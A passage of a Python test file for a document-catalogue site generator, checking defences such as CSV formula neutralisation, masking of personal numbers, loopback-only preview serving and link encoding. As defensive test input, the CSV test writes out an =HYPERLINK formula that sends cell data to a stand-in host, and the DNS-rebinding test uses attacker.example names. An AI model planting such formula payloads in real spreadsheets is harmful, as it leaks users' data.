    for library in sources.SHAPING_LIBRARIES:
        assert re.sub(r"[-_.]+", "-", library).lower() in pinned, library
    assert "-c requirements.lock" in (REPO / "Makefile").read_text(encoding="utf-8")


def test_validation_hangs_or_crashes_on_pathological_input_limits_are_generous(
    repo: Repo,
) -> None:
    """Real documents stay well inside the limits: eight levels of lists in a quote,
    and a paragraph with many links and parentheses, validate cleanly."""
    lists = "".join("> " + "    " * i + "- 第一项\n" for i in range(8))
    links = "见[附表](files/q2.csv)（单位：万元）(注1) " * 200 + "\n"
    _approved_item(repo, f"{lists}\n{links}")
    (repo.root / "content/external/budget/files").mkdir()
    (repo.root / "content/external/budget/files/q2.csv").write_text("a,b\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    assert "F009" not in result.output and "F010" not in result.output, result.output


# ---------------------------------------------------------------- finding 8
def test_catalogue_csv_neutralises_formulas(repo: Repo) -> None:
    """A title such as ``=HYPERLINK(…)`` was written raw: Excel ran it as a formula.
    Every text cell that starts like one gets a leading ``'`` (OWASP), and only those."""
    formulas = {
        "title": '=HYPERLINK("https://example.invalid/?"&A1,"详情")',
        "summary": "@SUM(1+1)",
        "doc_no": "-2+3",
        "keywords": ["+cmd", "预算"],
    }
    quoted = {
        k: [f"'{w}'" for w in v] if isinstance(v, list) else f"'{v}'" for k, v in formulas.items()
    }
    repo.add_item(**quoted)  # YAML single quotes: "@" cannot start a plain value
    build_catalogue(BuildContext(repo.root, repo.root / "build", BUILD_DAY))
    raw = (repo.root / "build/public/catalogue.csv").read_bytes().decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(raw)))
    cells = dict(zip(header, row, strict=True))
    neutral = [cell for cell in row if cell.startswith("'")]
    assert "'" + formulas["title"] in neutral
    assert "'" + formulas["summary"] in neutral
    assert "'" + formulas["doc_no"] in neutral
    assert "'+cmd；预算" in neutral
    assert len(neutral) == 4  # the others (index number, dates, URL) are untouched
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.values())


@pytest.mark.parametrize("number", ["２０２４-０００１２", "2024-０００１２", "٢٠٢٤-00012"])
def test_index_numbers_are_ascii_digits_only(repo: Repo, number: str) -> None:
    """``２０２５-０００３１`` (full-width) was accepted beside ``2025-00031``."""
    path = repo.write_item(index_no=f"{ORG}/{number}")
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    assert f"2024-q2.md:{line_of(path, 'index_no:')}: I301" in result.output


ID = "11010519491231002X"  # GB 11643's own example


@pytest.mark.parametrize(
    ("code", "field", "value"),
    [
        ("I301", "index_no", ID),
        ("S104", "published", ID),
        ("S101", f"身份证{ID}", "x"),
        ("I301", "index_no", "13812345678"),
    ],
)
def test_problem_messages_mask_personal_numbers(
    repo: Repo, code: str, field: str, value: str
) -> None:
    """S101/S104/S107/I301 quote what staff wrote: an ID number typed into a field was
    printed whole in CI logs. It is masked as the confidentiality messages mask it."""
    path = repo.write_item(**{field: value})
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    line = next(x for x in result.output.splitlines() if f": {code} " in x)
    assert line.startswith(f"content/external/budget/2024-q2.md:{line_of(path, field)}: ")
    secret = ID[:17] if ID in field + value else value
    assert secret not in result.output
    assert "****" in line


def _annual(repo: Repo, out: Path) -> dict[str, bytes]:
    build_catalogue(BuildContext(repo.root, out, BUILD_DAY))
    return {p.name: p.read_bytes() for p in (out / "public/reports").iterdir()}


def test_the_annual_report_shows_only_what_the_public_site_shows(
    repo: Repo, tmp_path: Path
) -> None:
    """An internal item dated 2022 made a public ``reports/annual-2022.html``, and items
    scheduled for later days were counted: the report uses what the public site shows."""
    common = {"written": "2026-03-01", "category": "budget"}
    repo.add_item("content/external/budget/2026-a.md", index_no=f"{ORG}/2026-00001",
                  published="2026-03-02", **common)  # fmt: skip
    before = _annual(repo, tmp_path / "before")
    assert "annual-2026.html" in before
    internal = repo.write_item(
        "content/internal/staff-affairs/2022-roster.md",
        index_no=f"{ORG}/2022-00001",
        category="staff-affairs",
        owner="personnel",
        drafted_by="胡斌",
        written="2022-03-01",
        published="2022-03-05",
    )
    repo.approve(internal, steps=(("initial", "曹静"), ("leader", "郑国平")))
    for rel, number, day in [
        ("content/external/budget/2026-later.md", "2026-00002", "2026-12-20"),
        ("content/external/budget/2027-later.md", "2027-00001", "2027-01-05"),
    ]:
        repo.add_item(rel, index_no=f"{ORG}/{number}", published=day,
                      changes=[{"date": day, "note": "更正"}], **common)  # fmt: skip
    assert not [p for p in repo.load().problems if p.is_error]
    after = _annual(repo, tmp_path / "after")
    assert after == before  # no 2022, no 2027, and 2026 counts the same
    intranet = tmp_path / "after/intranet"
    assert b"2022" in b"".join(p.read_bytes() for p in intranet.rglob("*.html"))


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("127.0.0.1:{port}", True),
        ("localhost:{port}", True),
        ("[::1]:{port}", True),
        ("attacker.example:{port}", False),  # a name rebound to 127.0.0.1
        ("127.0.0.1.attacker.example:{port}", False),
        ("localhost:{port}.attacker.example", False),
        ("localhost:1{port}", False),
        ("", False),
    ],
)
def test_catalogue_serve_answers_only_loopback_names(repo: Repo, host: str, allowed: bool) -> None:
    """DNS rebinding: a page of another site, its name pointed at 127.0.0.1, could read
    drafts and ``/__catalogue__/status`` (which names the catalogue's paths). Only the
    names of this machine are answered; any other ``Host`` gets 403 and nothing else."""
    from generator.authoring.serve import PreviewServer

    repo.add_item()
    preview = PreviewServer(repo.root, port=0, today=BUILD_DAY, echo=lambda _: None)
    preview.start()
    try:
        port = preview.http.server_address[1]
        for path in ("/", "/__catalogue__/status", "/items/"):
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
            try:
                connection.request("GET", path, headers={"Host": host.format(port=port)})
                response = connection.getresponse()
                body = response.read()
            finally:
                connection.close()
            assert (response.status != 403) is allowed, (path, response.status)
            if not allowed:
                assert str(repo.root).encode() not in body and b"content/" not in body
    finally:
        preview.stop()


@pytest.mark.parametrize("name", ["报告#1.pdf", "a b%20c?.pdf", "100%.pdf"])
def test_attachment_links_are_percent_encoded(repo: Repo, name: str) -> None:
    """``files/报告#1.pdf`` was linked raw: the browser asked for ``files/报告`` and took
    the rest as a fragment. Every attachment link, in the public site, the kiosk and
    catalogue.json, leads to the file, whose name on disk is unchanged."""
    folder = repo.root / "content/external/budget/files"
    folder.mkdir(parents=True)
    write_pdf(folder / name, [["基本支出", "100"]])  # the kiosk links PDFs only
    repo.add_item(attachments=[{"path": f"files/{name}", "title": "附表"}])
    out = repo.root / "build"
    build_catalogue(BuildContext(repo.root, out, BUILD_DAY))
    hrefs = []
    (page,) = (out / "public/items").glob("*.html")
    links = re.findall(r'<a href="([^"]*files/[^"]*)"', page.read_text(encoding="utf-8"))
    assert links
    hrefs += [("public", page, link) for link in links]
    assert (page.parent / page.stem / "files" / name).is_file()  # on disk as named
    # The kiosk shows the PDF on a page of its own (a name with # or % is no matter there).
    (page,) = (out / "kiosk/items").glob("*.html")
    assert (page.parent / page.stem / "view-1/page-1.png").is_file()
    record = json.loads((out / "public/catalogue.json").read_text(encoding="utf-8"))
    (attachment,) = record["items"][0]["attachments"]
    for output, page, href in hrefs:
        parts = urlsplit(urljoin(page.relative_to(out / output).as_posix(), unescape(href)))
        assert not parts.query and not parts.fragment, href
        assert (out / output / unquote(parts.path)).is_file(), href
    parts = urlsplit(attachment["url"])
    assert not parts.query and not parts.fragment
    assert unquote(parts.path).endswith(f"/files/{name}")


def test_a_symlinked_content_folder_is_reported(repo: Repo, tmp_path: Path) -> None:
    """A symlinked folder under content/ was skipped silently: its items were neither
    checked nor published, and nobody was told. It is a warning naming the folder."""
    repo.add_item()
    elsewhere = tmp_path / "elsewhere"
    Repo(elsewhere, fresh=False).write_item("budget/2024-q3.md")
    (repo.root / "content/external/linked").symlink_to(elsewhere / "budget")
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    assert result.exit_code == 0, result.output
    assert "content/external/linked:1: F011" in result.output
    assert "2024-q3" not in result.output  # not entered
    catalogue = load_catalogue(repo.root)
    assert [p.code for p in catalogue.problems if p.path == "content/external/linked"] == ["F011"]


@pytest.mark.parametrize("tag", ["style", "textarea", "STYLE", "title"])
def test_an_unclosed_style_or_textarea_is_reported_at_its_line(repo: Repo, tag: str) -> None:
    """An unclosed ``<style>`` or ``<textarea>`` swallowed the rest of the body, which
    silently vanished from the page: a warning at its line. Closed ones, and ones in
    fenced code, are not reported."""
    body = (
        f"## 说明\n\n```html\n<{tag}>示例\n```\n\n<{tag}>p{{}}</{tag}>\n\n"
        f"第一段。\n\n<{tag} class=x>\n\n第二段，从此不显示。\n"
    )
    path = repo.add_item(body=body)
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    assert result.exit_code == 0, result.output
    warned = [x for x in result.output.splitlines() if " F012 " in x]
    assert warned == [
        x for x in warned if x.startswith(f"{REL}:{line_of(path, f'<{tag} class=x>')}: ")
    ]
    assert len(warned) == 1 and f"<{tag.lower()}>" in warned[0]
    repo.write_item(body=body.replace(f"<{tag} class=x>", f"<{tag}>x</{tag}>"))
    result = CliRunner().invoke(main, ["--root", str(repo.root), "validate"])
    assert " F012 " not in result.output


def test_the_security_doc_names_only_tests_that_exist() -> None:
    """docs/security.md points each defence at its test: every test it names is defined
    (a renamed test would leave the threat model pointing at nothing)."""
    doc = (REPO / "docs" / "security.md").read_text(encoding="utf-8")
    defined = {
        match
        for path in (REPO / "tests").rglob("test_*.py")
        for match in re.findall(r"^def (test_\w+)", path.read_text("utf-8"), re.MULTILINE)
    }
    named = set(re.findall(r"(?<![/\w])(test_\w+)(?!\.py)\b", doc))
    files = {p.stem for p in (REPO / "tests").rglob("test_*.py")}
    assert len(named - files) >= 20  # the doc names its tests (and the pattern finds them)
    assert named - files - defined == set()
